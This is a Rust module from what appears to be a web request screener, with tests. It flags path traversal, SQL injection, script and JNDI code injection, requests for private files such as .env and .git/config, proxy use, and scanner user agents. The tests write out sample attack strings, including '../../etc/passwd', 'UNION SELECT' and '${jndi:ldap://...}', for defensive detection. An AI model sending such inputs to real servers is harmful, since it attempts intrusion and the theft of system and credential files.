//! Reads the signs of an attack from a request target and a user agent.
//!
//! The lists hold what attacks of a kind have in common, in the words of the languages attacked.
//! Most targets hold only letters, digits and `/-_.?=&`: those take one pass.

use super::Signs;
use super::attack_words::{
    CODE, CREDENTIAL_KEYS, EXPLOIT_PATHS, HIDING, PRIVATE_ENDS, PRIVATE_PARTS, PUBLIC_DOTS,
    SCANNERS, SCRIPT, SPELT_PLAINLY, SQL, TRAVERSAL,
};

/// Bytes of a target that are looked at; what is behind them is padding or a body.
const MOST: usize = 2048;

/// The signs of a request target as it was sent, values included.
pub(super) fn of_target(method: &str, target: &str) -> Signs {
    let mut signs = Signs::NONE;
    if method == "CONNECT" && !target.starts_with('/') || is_absolute(target) {
        signs |= Signs::PROXY;
    }
    let target = target
        .get(..target.floor_char_boundary(MOST))
        .unwrap_or(target);
    let (path, query) = target.split_once('?').unwrap_or((target, ""));
    if !query.is_empty() && has_credential(query) {
        signs |= Signs::QUERY_CREDENTIAL;
    }
    let mut lower = target.to_ascii_lowercase();
    let plain = lower.bytes().all(is_plain) && !lower.contains("..");
    let mut hidden = false;
    if !plain {
        // Twice: what is encoded twice is decoded by a proxy and by the program behind it.
        for round in 0..2 {
            let Some(decoded) = decode(&lower) else { break };
            hidden |= round == 1 || HIDING.in_text(&lower);
            lower = decoded;
        }
        signs |= attacks(&lower, path.len());
        if hidden && signs.any(Signs::TRAVERSAL | Signs::SQL | Signs::CODE | Signs::SCRIPT) {
            signs |= Signs::HIDDEN;
        }
    } else if SPELT_PLAINLY.in_text(&lower) {
        signs |= attacks(&lower, path.len());
    }
    let path = lower.split('?').next().unwrap_or_default();
    if is_private(path) {
        signs |= Signs::PRIVATE_FILE;
    }
    if EXPLOIT_PATHS.in_text(path) {
        signs |= Signs::EXPLOIT_PATH;
    }
    signs
}

/// The signs of a user agent.
pub(super) fn of_agent(agent: &[u8]) -> Signs {
    let agent = agent.get(..MOST.min(agent.len())).unwrap_or(agent);
    // Browsers are most of all and none of these.
    let lower = String::from_utf8_lossy(agent).to_ascii_lowercase();
    let mut signs = Signs::NONE;
    if SCANNERS.in_text(&lower) {
        signs |= Signs::SCANNER;
    }
    if lower.contains("${") || lower.contains("() {") || lower.contains("<?php") {
        signs |= Signs::CODE;
    }
    signs
}

/// The signs of the page that a request says it comes from.
pub(super) fn of_referrer(referrer: &[u8]) -> Signs {
    let referrer = referrer.get(..MOST.min(referrer.len())).unwrap_or(referrer);
    if memchr::memmem::find(referrer, b"${").is_some() {
        return Signs::CODE;
    }
    Signs::NONE
}

fn attacks(text: &str, path_length: usize) -> Signs {
    let mut signs = Signs::NONE;
    if TRAVERSAL.in_text(text) || text.get(..path_length).unwrap_or(text).ends_with("/..") {
        signs |= Signs::TRAVERSAL;
    }
    if SQL.in_text(text) || text.contains("select") && text.contains(" from ") {
        signs |= Signs::SQL;
    }
    if has_tag(text) || SCRIPT.in_text(text) {
        signs |= Signs::SCRIPT;
    }
    if CODE.in_text(text) {
        signs |= Signs::CODE;
    }
    signs
}

/// A markup tag: `<` and a letter, `/`, `!` or `?`.
fn has_tag(text: &str) -> bool {
    let bytes = text.as_bytes();
    memchr::memchr_iter(b'<', bytes).any(|at| {
        bytes
            .get(at + 1)
            .is_some_and(|next| next.is_ascii_alphabetic() || matches!(next, b'/' | b'!' | b'?'))
    })
}

/// Letters, digits and marks that are part of every ordinary target.
const fn is_plain(byte: u8) -> bool {
    byte.is_ascii_alphanumeric()
        || matches!(
            byte,
            b'/' | b'-'
                | b'_'
                | b'.'
                | b'?'
                | b'='
                | b'&'
                | b'~'
                | b','
                | b'+'
                | b':'
                | b'@'
                | b'*'
                | b'!'
        )
}

/// Percent-decoded once, `+` as a blank; `None` if there is nothing to decode.
fn decode(text: &str) -> Option<String> {
    if !text.contains(['%', '+']) {
        return None;
    }
    let mut out = Vec::with_capacity(text.len());
    let mut bytes = text.bytes();
    while let Some(byte) = bytes.next() {
        let decoded = match byte {
            b'+' => b' ',
            b'%' => {
                let mut ahead = bytes.clone();
                let digit = |byte: Option<u8>| char::from(byte?).to_digit(16);
                match (digit(ahead.next()), digit(ahead.next())) {
                    (Some(high), Some(low)) => {
                        bytes = ahead;
                        u8::try_from(high * 16 + low).unwrap_or(b'%')
                    }
                    _ => b'%',
                }
            }
            other => other,
        };
        out.push(decoded.to_ascii_lowercase());
    }
    let decoded = String::from_utf8_lossy(&out).into_owned();
    (decoded != text).then_some(decoded)
}

fn is_absolute(target: &str) -> bool {
    let start = target.get(..8).unwrap_or(target);
    let starts = |scheme: &str| {
        start
            .get(..scheme.len())
            .is_some_and(|start| start.eq_ignore_ascii_case(scheme))
    };
    starts("http://") || starts("https://")
}

fn is_private(path: &str) -> bool {
    let hidden = path.split('/').any(|part| {
        part.len() > 1
            && part.starts_with('.')
            && !part.starts_with("..")
            && !PUBLIC_DOTS.contains(&part)
    });
    let name = path.rsplit('/').next().unwrap_or_default();
    hidden
        || PRIVATE_ENDS
            .iter()
            .any(|end| name.len() > end.len() && name.ends_with(end))
        || PRIVATE_PARTS.in_text(name)
}

fn has_credential(query: &str) -> bool {
    query.split(['&', ';']).any(|part| {
        part.split_once('=').is_some_and(|(key, value)| {
            !value.is_empty()
                && CREDENTIAL_KEYS
                    .iter()
                    .any(|known| key.eq_ignore_ascii_case(known))
        })
    })
}

#[cfg(test)]
mod tests {
    use super::{of_agent, of_target};
    use crate::call::Signs;
    use proptest::prelude::*;

    #[test]
    fn ordinary_targets_have_no_sign() {
        for target in [
            "/",
            "/v1/orders/17?fields=id,name&page=2",
            "/search?q=select+a+hotel+in+rome",
            "/articles/how-to-drop-a-class",
            "/files/report%20of%20may.pdf",
            "/.well-known/openid-configuration",
            "/caf%C3%A9/menu?name=O%27Hara",
            "/projects/xdotool/",
            "/app/main.4f2a.js.map",
            "/images/..%20logo.png",
        ] {
            assert_eq!(of_target("GET", target), Signs::NONE, "{target}");
        }
    }

    #[test]
    fn each_kind_of_attack_has_its_sign() {
        for (target, sign) in [
            ("/static/../../etc/passwd", Signs::TRAVERSAL),
            ("/a/%2e%2e/%2e%2e/b", Signs::TRAVERSAL | Signs::HIDDEN),
            ("/a/%252e%252e%252fb", Signs::TRAVERSAL | Signs::HIDDEN),
            ("/a/..;/manager", Signs::TRAVERSAL),
            ("/x?id=1%20UNION%20SELECT%20name", Signs::SQL),
            ("/x?id=1'+or+'1'='1", Signs::SQL),
            ("/x?q=%3Cscript%3E", Signs::SCRIPT),
            ("/x?q=<b", Signs::SCRIPT),
            ("/x?q=${jndi:ldap://h/a}", Signs::CODE),
            ("/x?f=php://input", Signs::CODE),
            ("/.env", Signs::PRIVATE_FILE),
            ("/shop/dump.sql", Signs::PRIVATE_FILE),
            ("/.git/config", Signs::PRIVATE_FILE),
            ("http://other.example/", Signs::PROXY),
            ("/boaform/admin", Signs::EXPLOIT_PATH),
            ("/x?a=1&API_KEY=k", Signs::QUERY_CREDENTIAL),
        ] {
            assert!(of_target("GET", target).has(sign), "{target}");
        }
        assert!(of_target("CONNECT", "h:443").has(Signs::PROXY));
    }

    #[test]
    fn scanners_are_told_by_their_names() {
        assert_eq!(of_agent(b"Mozilla/5.00 (Nikto/2.1.5)"), Signs::SCANNER);
        assert_eq!(of_agent(b"${jndi:ldap://h}"), Signs::CODE);
        for agent in [
            "curl/8.5.0",
            "Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0",
            "Go-http-client/2.0",
            "",
        ] {
            assert_eq!(of_agent(agent.as_bytes()), Signs::NONE, "{agent}");
        }
    }

    proptest! {
        #[test]
        fn no_target_panics(target in ".{0,200}", encoded in "(%[0-9a-fA-F]{0,2}|[a-z./+]){0,60}") {
            let _ = (of_target("GET", &target), of_target("GET", &encoded), of_agent(target.as_bytes()));
        }
    }
}
